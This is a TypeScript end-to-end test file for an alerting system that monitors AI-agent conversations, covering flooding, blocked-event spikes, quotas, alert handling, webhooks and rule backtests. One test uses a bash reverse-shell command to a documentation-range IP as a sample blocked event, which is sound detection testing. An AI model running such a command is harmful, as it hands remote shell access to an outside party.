@@ -1,0 +1,306 @@
+// Alerts end to end against PostgreSQL: evaluation inside ingest, deduplication under
+// concurrency, re-sent data, acknowledge/resolve with audit, rules CRUD and backtest,
+// and the read API.
+import { randomUUID } from "node:crypto";
+import { describe, expect, it } from "vitest";
+import * as alertRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alerts/[alertId]/route";
+import * as acknowledgeRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alerts/[alertId]/acknowledge/route";
+import * as resolveRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alerts/[alertId]/resolve/route";
+import * as alertsRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alerts/route";
+import * as ruleRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alert-rules/[ruleId]/route";
+import * as backtestRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alert-rules/backtest/route";
+import * as rulesRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alert-rules/route";
+import * as keysRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/api-keys/route";
+import * as v1Alerts from "@/app/api/v1/alerts/route";
+import * as conversationsRoute from "@/app/api/v1/conversations/route";
+import * as eventsRoute from "@/app/api/v1/events/route";
+import { db } from "@/lib/db/client";
+import { fixtureJson } from "@/lib/ingest/adapters/fixtures/load";
+import { addMemberWithRole, call, createTenant, sessionCookie } from "@/tests/fixtures";
+import { useMigratedDatabase } from "@/tests/test-database";
+
+useMigratedDatabase();
+
+async function tenantWithKey(label: string, scopes = ["scan", "ingest", "read"]) {
+  const tenant = await createTenant(label);
+  const cookie = await sessionCookie(tenant.owner.id);
+  const params = { orgId: tenant.organization.id, projectId: tenant.project.id };
+  const created = await call(keysRoute.POST, "POST", "/k", { params, cookie, json: { name: "ingest", scopes } });
+  expect(created.status).toBe(201);
+  return { ...tenant, cookie, params, secret: created.body.secret as string };
+}
+
+// A real Magentic-One run (Who&When hand-crafted 47) whose WebSurfer then floods the chat
+// with page dumps, 0.7 s apart: the default flooding rule (20 messages in 60 s) must fire.
+const magentic = (fixtureJson("who_and_when/hand-crafted-47.json") as { history: { content: string; role: string }[] }).history;
+function floodingTranscript(extra = 0) {
+  const start = Date.parse("2026-11-20T09:00:00Z");
+  const opening = magentic.slice(0, 10).map((m, i) => ({
+    sender: m.role.split(" ")[0]!.replace(/^human$/, "user"),
+    content: m.content,
+    created_at: new Date(start + i * 20_000).toISOString(),
+  }));
+  // Each dump is a different real message of the run, so this is flooding, not repetition.
+  const flood = Array.from({ length: 30 + extra }, (_, i) => ({
+    sender: "WebSurfer",
+    content: `(result page ${i + 1})\n${magentic[(10 + i) % magentic.length]!.content.slice(0, 400)}`,
+    created_at: new Date(start + 300_000 + i * 700).toISOString(),
+  }));
+  return { messages: [...opening, ...flood] };
+}
+const postConversation = (secret: string, body: unknown) => call(conversationsRoute.POST, "POST", "/api/v1/conversations", { bearer: secret, json: body });
+
+async function alertsOf(projectId: string, ruleType?: "quota") {
+  return db().alert.findMany({ where: { projectId, ...(ruleType ? { ruleType } : {}) }, orderBy: { createdAt: "asc" } });
+}
+
+describe("evaluation on ingest", () => {
+  it("a new project starts with the default rules", async () => {
+    const t = await tenantWithKey("defaults");
+    const res = await call(rulesRoute.GET, "GET", "/r", { params: t.params, cookie: t.cookie });
+    expect(res.status).toBe(200);
+    expect(res.body.rules.map((r: { type: string; isDefault: boolean }) => `${r.type}:${r.isDefault}`)).toEqual([
+      "flooding:true",
+      "repetition:true",
+      "blocked_spike:true",
+      "quota:true",
+      "quota:true",
+    ]);
+  });
+
+  it("raises one flooding alert; re-sending the transcript stores nothing and changes nothing; a longer version updates the same alert", async () => {
+    const t = await tenantWithKey("flood-once");
+    const first = await postConversation(t.secret, { conversation_id: "research-run-47", transcript: floodingTranscript() });
+    expect(first.status).toBe(200);
+    expect(first.body.stored).toBe(40);
+    const [alert, ...others] = await alertsOf(t.project.id);
+    expect(others).toEqual([]);
+    expect(alert).toMatchObject({ ruleType: "flooding", status: "open", count: 1, agentName: "WebSurfer", severity: "high" });
+    expect((alert!.measured as { messagesInWindow: number }).messagesInWindow).toBe(30);
+    expect((alert!.evidence as { type: string; seq: number }[]).map((e) => e.seq)).toEqual(Array.from({ length: 30 }, (_, i) => 10 + i));
+
+    const again = await postConversation(t.secret, { conversation_id: "research-run-47", transcript: floodingTranscript() });
+    expect(again.body).toMatchObject({ stored: 0, already_stored: 40 });
+    const afterResend = await alertsOf(t.project.id);
+    expect(afterResend).toHaveLength(1);
+    expect(afterResend[0]).toMatchObject({ count: 1, lastSeenAt: alert!.lastSeenAt, updatedAt: alert!.updatedAt });
+
+    const longer = await postConversation(t.secret, { conversation_id: "research-run-47", transcript: floodingTranscript(5) });
+    expect(longer.body.stored).toBe(5);
+    const afterLonger = await alertsOf(t.project.id);
+    expect(afterLonger).toHaveLength(1);
+    expect(afterLonger[0]!.count).toBe(2);
+    expect((afterLonger[0]!.evidence as { seq: number }[]).at(-1)?.seq).toBe(44);
+  });
+
+  it("four clients sending the same flooding conversation at once open exactly one alert", async () => {
+    const t = await tenantWithKey("flood-race");
+    const results = await Promise.all(Array.from({ length: 4 }, () => postConversation(t.secret, { conversation_id: "race-run", transcript: floodingTranscript() })));
+    expect(results.map((r) => r.status)).toEqual([200, 200, 200, 200]);
+    expect(results.reduce((sum, r) => sum + r.body.stored, 0)).toBe(40);
+    const alerts = await alertsOf(t.project.id);
+    expect(alerts).toHaveLength(1);
+    expect(alerts[0]!.count).toBe(1);
+  });
+
+  it("four clients flooding four different conversations of one agent at once open one alert per conversation", async () => {
+    const t = await tenantWithKey("flood-many");
+    await Promise.all(Array.from({ length: 4 }, (_, i) => postConversation(t.secret, { conversation_id: `run-${i}`, transcript: floodingTranscript() })));
+    const alerts = await alertsOf(t.project.id);
+    expect(alerts.map((a) => a.subjectKey).sort()).toHaveLength(4);
+    expect(new Set(alerts.map((a) => a.conversationId)).size).toBe(4);
+  });
+
+  it("a blocked spike fires once; retried batches (duplicates) neither fire nor bump", async () => {
+    const t = await tenantWithKey("spike");
+    const batch = Array.from({ length: 12 }, (_, i) => ({
+      id: randomUUID(),
+      agent_id: i % 2 ? "coder" : "executor",
+      direction: "internal",
+      verdict: "blocked",
+      risk_score: 0.97,
+      findings: [{ category: "code_execution", rule: "code_execution.reverse_shell.bash", severity: "critical", score: 0.97, span: { start: 0, end: 10 }, explanation: "reverse shell" }],
+      text: "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
+      occurred_at: new Date(Date.parse("2026-11-20T10:00:00Z") + i * 10_000).toISOString(),
+    }));
+    const first = await call(eventsRoute.POST, "POST", "/api/v1/events", { bearer: t.secret, json: { events: batch } });
+    expect(first.body.stored).toBe(12);
+    const alerts = await alertsOf(t.project.id);
+    expect(alerts.map((a) => [a.ruleType, a.count, (a.measured as { blockedInWindow: number }).blockedInWindow])).toEqual([["blocked_spike", 1, 12]]);
+    await call(eventsRoute.POST, "POST", "/api/v1/events", { bearer: t.secret, json: { events: batch } });
+    expect((await alertsOf(t.project.id)).map((a) => a.count)).toEqual([1]);
+  });
+
+  it("the quota rules fire once each as a Free organization's usage crosses 80% and 100%", async () => {
+    const t = await tenantWithKey("quota");
+    const month = new Date(Date.UTC(new Date().getUTCFullYear(), new Date().getUTCMonth(), 1));
+    await db().usageMonth.create({ data: { organizationId: t.organization.id, month, used: 7_990 } });
+    const send = (id: string, n: number) =>
+      postConversation(t.secret, { conversation_id: id, transcript: { messages: Array.from({ length: n }, (_, i) => ({ sender: i % 2 ? "coder" : "planner", content: `Step ${i}: run the tests.` })) } });
+    await send("q-1", 5);
+    expect(await alertsOf(t.project.id, "quota")).toEqual([]);
+    await send("q-2", 10);
+    expect((await alertsOf(t.project.id, "quota")).map((a) => a.title)).toEqual([expect.stringContaining("80%")]);
+    await send("q-3", 10);
+    expect(await alertsOf(t.project.id, "quota")).toHaveLength(1);
+    await send("q-4", 2_000);
+    const titles = (await alertsOf(t.project.id, "quota")).map((a) => a.title);
+    expect(titles).toEqual([expect.stringContaining("80%"), expect.stringContaining("100%")]);
+  });
+
+  it("a disabled rule does not fire", async () => {
+    const t = await tenantWithKey("disabled");
+    await db().alertRule.updateMany({ where: { projectId: t.project.id }, data: { enabled: false } });
+    await postConversation(t.secret, { conversation_id: "quiet", transcript: floodingTranscript() });
+    expect(await alertsOf(t.project.id)).toEqual([]);
+  });
+});
+
+describe("acknowledge and resolve", () => {
+  it("owners acknowledge and resolve with a note (audit-logged); viewers cannot; a resolved subject opens a new alert", async () => {
+    const t = await tenantWithKey("respond");
+    await postConversation(t.secret, { conversation_id: "incident", transcript: floodingTranscript() });
+    const feed = await call(alertsRoute.GET, "GET", "/a?status=open", { params: t.params, cookie: t.cookie });
+    expect(feed.status).toBe(200);
+    expect(feed.body.counts).toEqual({ open: 1, acknowledged: 0, resolved: 0 });
+    const alertId = feed.body.alerts[0].id as string;
+    const params = { ...t.params, alertId };
+
+    const detail = await call(alertRoute.GET, "GET", "/a/x", { params, cookie: t.cookie });
+    expect(detail.status).toBe(200);
+    expect(detail.body.evidence).toHaveLength(30);
+    expect(detail.body.evidence[0]).toMatchObject({ conversationExternalId: "incident", ref: { type: "message", seq: 10, sender: "WebSurfer" } });
+    expect(detail.body.evidence[0].preview).toContain("result page 1");
+    expect(detail.body.deliveries).toEqual([]);
+
+    const viewer = await addMemberWithRole(t.organization.id, "viewer", "respond");
+    const refused = await call(acknowledgeRoute.POST, "POST", "/ack", { params, cookie: await sessionCookie(viewer.id), json: { note: "mine" } });
+    expect(refused.status).toBe(403);
+
+    const ack = await call(acknowledgeRoute.POST, "POST", "/ack", { params, cookie: t.cookie, json: { note: "Looking into the web surfer loop." } });
+    expect(ack.status).toBe(200);
+    expect(ack.body.alert.status).toBe("acknowledged");
+    const twice = await call(acknowledgeRoute.POST, "POST", "/ack", { params, cookie: t.cookie, json: { note: "again" } });
+    expect(twice.status).toBe(409);
+
+    // Still unresolved: more flooding updates the acknowledged alert.
+    await postConversation(t.secret, { conversation_id: "incident", transcript: floodingTranscript(25) });
+    expect((await alertsOf(t.project.id)).map((a) => [a.status, a.count])).toEqual([["acknowledged", 2]]);
+
+    const resolved = await call(resolveRoute.POST, "POST", "/res", { params, cookie: t.cookie, json: { note: "Capped the surfer's page fetches." } });
+    expect(resolved.body.alert.status).toBe("resolved");
+    const row = await db().alert.findUniqueOrThrow({ where: { id: alertId } });
+    expect(row).toMatchObject({ dedupKey: null, acknowledgeNote: "Looking into the web surfer loop.", resolveNote: "Capped the surfer's page fetches.", acknowledgedBy: t.owner.email });
+    const audit = await db().auditLogEntry.findMany({ where: { organizationId: t.organization.id, targetId: alertId }, select: { action: true, metadata: true } });
+    expect(audit.map((a) => a.action)).toEqual(["alert.acknowledged", "alert.resolved"]);
+
+    await postConversation(t.secret, { conversation_id: "incident", transcript: floodingTranscript(50) });
+    const all = await alertsOf(t.project.id);
+    expect(all.map((a) => a.status)).toEqual(["resolved", "open"]);
+  });
+});
+
+describe("webhook notices", () => {
+  it("queues alert.opened when an alert opens, at most one notice a minute for count bumps, and one per acknowledge", async () => {
+    const t = await tenantWithKey("notices");
+    await db().webhook.create({ data: { organizationId: t.organization.id, projectId: t.project.id, url: "https://hooks.example.com/warden", secret: "whsec_test_notices" } });
+    await postConversation(t.secret, { conversation_id: "noisy", transcript: floodingTranscript() });
+    await postConversation(t.secret, { conversation_id: "noisy", transcript: floodingTranscript(5) });
+    await postConversation(t.secret, { conversation_id: "noisy", transcript: floodingTranscript(10) });
+    const [alert] = await alertsOf(t.project.id);
+    expect(alert!.count).toBe(3);
+    const events = async () => (await db().webhookDelivery.findMany({ where: { alertId: alert!.id }, orderBy: { createdAt: "asc" }, select: { event: true } })).map((d) => d.event);
+    expect(await events()).toEqual(["alert.opened"]);
+
+    // A minute later the next bump is announced once.
+    await db().webhookDelivery.updateMany({ where: { alertId: alert!.id }, data: { createdAt: new Date(Date.now() - 61_000) } });
+    await postConversation(t.secret, { conversation_id: "noisy", transcript: floodingTranscript(15) });
+    await postConversation(t.secret, { conversation_id: "noisy", transcript: floodingTranscript(20) });
+    expect(await events()).toEqual(["alert.opened", "alert.updated"]);
+
+    const ack = await call(acknowledgeRoute.POST, "POST", "/ack", { params: { ...t.params, alertId: alert!.id }, cookie: t.cookie, json: { note: "seen" } });
+    expect(ack.status).toBe(200);
+    expect(await events()).toEqual(["alert.opened", "alert.updated", "alert.acknowledged"]);
+  });
+});
+
+describe("rules", () => {
+  it("owners create, edit, disable and delete rules (audit-logged); viewers can only read; bad params are a 422 naming the field", async () => {
+    const t = await tenantWithKey("rules");
+    const viewer = await addMemberWithRole(t.organization.id, "viewer", "rules");
+    const viewerCookie = await sessionCookie(viewer.id);
+    const body = { name: "Long tool output", type: "message_size", params: { maxChars: 20_000 }, severity: "medium", agentPattern: "Computer*" };
+    expect((await call(rulesRoute.POST, "POST", "/r", { params: t.params, cookie: viewerCookie, json: body })).status).toBe(403);
+
+    const bad = await call(rulesRoute.POST, "POST", "/r", { params: t.params, cookie: t.cookie, json: { ...body, params: { maxChars: 0 } } });
+    expect(bad.status).toBe(422);
+    expect(bad.body.error.field).toBe("params.maxChars");
+
+    const created = await call(rulesRoute.POST, "POST", "/r", { params: t.params, cookie: t.cookie, json: body });
+    expect(created.status).toBe(201);
+    const ruleParams = { ...t.params, ruleId: created.body.rule.id };
+    const badEdit = await call(ruleRoute.PATCH, "PATCH", "/r/x", { params: ruleParams, cookie: t.cookie, json: { params: { maxChars: "big" } } });
+    expect(badEdit.status).toBe(422);
+    expect(badEdit.body.error.field).toBe("params.maxChars");
+    expect((await call(ruleRoute.PATCH, "PATCH", "/r/x", { params: ruleParams, cookie: viewerCookie, json: { enabled: false } })).status).toBe(403);
+
+    const edited = await call(ruleRoute.PATCH, "PATCH", "/r/x", { params: ruleParams, cookie: t.cookie, json: { params: { maxChars: 500 } } });
+    expect(edited.body.rule).toMatchObject({ params: { maxChars: 500 }, agentPattern: "Computer*", enabled: true });
+    const disabled = await call(ruleRoute.PATCH, "PATCH", "/r/x", { params: ruleParams, cookie: t.cookie, json: { enabled: false } });
+    expect(disabled.body.rule.enabled).toBe(false);
+    expect((await call(ruleRoute.DELETE, "DELETE", "/r/x", { params: ruleParams, cookie: viewerCookie })).status).toBe(403);
+    expect((await call(ruleRoute.DELETE, "DELETE", "/r/x", { params: ruleParams, cookie: t.cookie })).status).toBe(200);
+    expect((await call(ruleRoute.GET, "GET", "/r/x", { params: ruleParams, cookie: t.cookie })).status).toBe(404);
+    const audit = await db().auditLogEntry.findMany({ where: { organizationId: t.organization.id, targetType: "alert_rule" }, orderBy: { seq: "asc" }, select: { action: true } });
+    expect(audit.map((a) => a.action)).toEqual(["alert_rule.created", "alert_rule.updated", "alert_rule.disabled", "alert_rule.deleted"]);
+  });
+
+  it("backtest counts the alerts a rule would have raised in the last 7 days, per conversation, and writes nothing", async () => {
+    const t = await tenantWithKey("backtest");
+    const now = Date.now();
+    const recent = (transcript: ReturnType<typeof floodingTranscript>) => ({
+      messages: transcript.messages.map((m, i) => ({ ...m, created_at: new Date(now - 3_600_000 + i * 700).toISOString() })),
+    });
+    await postConversation(t.secret, { conversation_id: "bt-flood", transcript: recent(floodingTranscript()) });
+    await postConversation(t.secret, { conversation_id: "bt-ordinary", transcript: { messages: magentic.slice(0, 12).map((m, i) => ({ sender: m.role.split(" ")[0], content: m.content, created_at: new Date(now - 7_200_000 + i * 30_000).toISOString() })) } });
+    const before = await db().alert.count();
+    const audits = await db().auditLogEntry.count();
+    const res = await call(backtestRoute.POST, "POST", "/bt", {
+      params: t.params,
+      cookie: t.cookie,
+      json: { name: "Tight flooding", type: "flooding", params: { maxMessages: 10, windowSeconds: 30 }, severity: "low" },
+    });
+    expect(res.status).toBe(200);
+    expect(res.body).toMatchObject({ alerts: 1, agents: ["WebSurfer"], truncated: false });
+    expect(res.body.subjects[0]).toMatchObject({ conversationExternalId: "bt-flood", agentName: "WebSurfer" });
+    expect(res.body.scanned.messages).toBe(52);
+    expect(await db().alert.count()).toBe(before);
+    expect(await db().auditLogEntry.count()).toBe(audits);
+  });
+});
+
+describe("GET /api/v1/alerts", () => {
+  it("lists the project's alerts for a read key, filtered by status and time, cursor-paginated, with evidence references", async () => {
+    const t = await tenantWithKey("read-api");
+    for (let i = 0; i < 3; i++) await postConversation(t.secret, { conversation_id: `siem-${i}`, transcript: floodingTranscript() });
+    const page1 = await call(v1Alerts.GET, "GET", "/api/v1/alerts?status=open&limit=2", { bearer: t.secret });
+    expect(page1.status).toBe(200);
+    expect(page1.body.alerts).toHaveLength(2);
+    expect(page1.body.alerts[0]).toMatchObject({ status: "open", rule: { type: "flooding" }, subject: { agent_id: "WebSurfer" }, count: 1 });
+    expect(page1.body.alerts[0].evidence[0]).toMatchObject({ type: "message", sender: "WebSurfer", conversation_id: expect.stringMatching(/^siem-/) });
+    const page2 = await call(v1Alerts.GET, "GET", `/api/v1/alerts?status=open&limit=2&cursor=${page1.body.next_cursor}`, { bearer: t.secret });
+    expect(page2.body.alerts).toHaveLength(1);
+    expect(page2.body.next_cursor).toBeNull();
+    const ids = [...page1.body.alerts, ...page2.body.alerts].map((a: { id: string }) => a.id);
+    expect(new Set(ids).size).toBe(3);
+    expect((await call(v1Alerts.GET, "GET", "/api/v1/alerts?status=resolved", { bearer: t.secret })).body.alerts).toEqual([]);
+    expect((await call(v1Alerts.GET, "GET", "/api/v1/alerts?to=2026-11-20T09:00:00Z", { bearer: t.secret })).body.alerts).toEqual([]);
+    expect((await call(v1Alerts.GET, "GET", "/api/v1/alerts?from=2026-11-20T09:00:00Z", { bearer: t.secret })).body.alerts).toHaveLength(3);
+    expect((await call(v1Alerts.GET, "GET", "/api/v1/alerts?status=closed", { bearer: t.secret })).status).toBe(422);
+
+    const ingestOnly = await tenantWithKey("read-api-ingest", ["ingest"]);
+    expect((await call(v1Alerts.GET, "GET", "/api/v1/alerts", { bearer: ingestOnly.secret })).status).toBe(403);
+    const other = await call(v1Alerts.GET, "GET", "/api/v1/alerts", { bearer: ingestOnly.secret.replace(/.$/, "x") });
+    expect(other.status).toBe(401);
+  });
+});
